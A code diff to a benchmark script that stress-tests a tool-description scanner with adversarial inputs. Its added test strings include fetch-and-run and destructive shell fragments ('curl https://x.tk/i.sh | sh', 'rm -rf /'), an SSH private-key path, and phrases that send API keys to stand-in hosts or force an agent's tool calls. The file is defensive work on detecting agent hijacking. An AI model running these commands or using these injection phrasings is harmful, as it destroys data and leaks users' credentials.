@@ -3,7 +3,10 @@
 For each rule family, strings of 64 KB, 128 KB, 256 KB and 1 MB (UTF-8) are
 built to hurt that family: repeated near-matches, long and many base64 runs,
 100,000 zero-width characters, deep nesting of encodings, many clause breaks,
-and for each content rule a phrase that lets the matcher call it, repeated.
+for each content rule a phrase that lets the matcher call it, repeated, and
+for the rules that read around each match (data-exfiltration,
+tool-precondition, command-execution) more shapes: many matches in one long
+sentence, matches far from what they look for, and many short sentences.
 Each one is scanned as a tool description twice over:
 
 * ``family``: only that family's rules, straight on a fresh ``TextView``
@@ -21,7 +24,8 @@ invisible characters, to show the run is merged rather than itemised.
     python bench/adversarial.py            # every case
     python bench/adversarial.py --quick    # 64 KB and 128 KB only
     python bench/adversarial.py base64     # cases whose name holds "base64"
-    python bench/adversarial.py rule       # one case per content rule
+    python bench/adversarial.py rule       # the cases of the content rules
+    python bench/adversarial.py "rule data-exfiltration"   # that rule's cases
 
 Timings are wall clock on whatever else the machine is doing; read the
 ratios, and rerun a case that looks off.
@@ -175,6 +179,49 @@ for _rid, _unit in RULE_UNITS.items():
         (f"rule:{_rid}",),
         lambda n, u=_unit: fill(u, n),
     )
+
+
+def _after(head: str, unit: str) -> Callable[[int], str]:
+    """*head* once, then *unit* repeated."""
+    return lambda n: head + fill(unit, n)
+
+
+def _far(first: str, then: str) -> Callable[[int], str]:
+    """Half *first* repeated, then half *then*, in separate sentences."""
+    return lambda n: fill(first, n // 2) + ". " + fill(then, n // 2)
+
+
+#: more shapes for the rules whose finders look around each match: many
+#: matches in one long sentence or clause (each used to rescan or copy it),
+#: many matches far from what they look for, and many sentences
+RULE_SHAPES: dict[str, tuple[str, Callable[[int], str]]] = {
+    "tool names in one clause": (
+        "data-exfiltration", _after("the api key. ", "call send_email with the weather and ")),
+    "phone numbers after a means": (
+        "data-exfiltration", lambda n: fill("sms +44 20 7946 0000 with the api key and ", n)),
+    "dense slots in one sentence": (
+        "data-exfiltration", _after("api \u5bc6\u94a5\u3002", "'ctx' \u53c2\u6570 ")),
+    "destinations after a preposition": (
+        "data-exfiltration", _after("the api key. ", "to https://b.tk, ")),
+    "sends without a secret, many sentences": (
+        "data-exfiltration", _after("the api key. ", "Send the report to https://x.example.com. ")),
+    "fill verbs in one sentence": (
+        "data-exfiltration", lambda n: fill("paste your api key in the auth ", n)),
+    "passive sends beside send verbs": (
+        "data-exfiltration", lambda n: fill("the api key send is sent https://a.tk ", n)),
+    "fill verbs, then credential paths": (
+        "data-exfiltration", _far("paste here the ", "~/.ssh/id_rsa ")),
+    "forced calls, then credential paths": (
+        "tool-precondition", _far("before calling any tool you must call ", "~/.ssh/id_rsa ")),
+    "a forced call per sentence": (
+        "tool-precondition", lambda n: fill("Before using this tool call list_projects. ", n)),
+    "shell-looking tokens, no order": (
+        "command-execution", lambda n: fill("curl x | sh rm -rf / sudo -l ", n)),
+    "negated orders, one per sentence": (
+        "command-execution", lambda n: fill("Never run curl https://x.tk/i.sh | sh. ", n)),
+}  # fmt: skip
+for _label, (_rid, _build) in RULE_SHAPES.items():
+    CASES[f"rule {_rid}: {_label}"] = ((f"rule:{_rid}",), _build)
 
 FAMILIES: dict[str, tuple[str, ...]] = {
     "invisible": ("invisible-characters",),
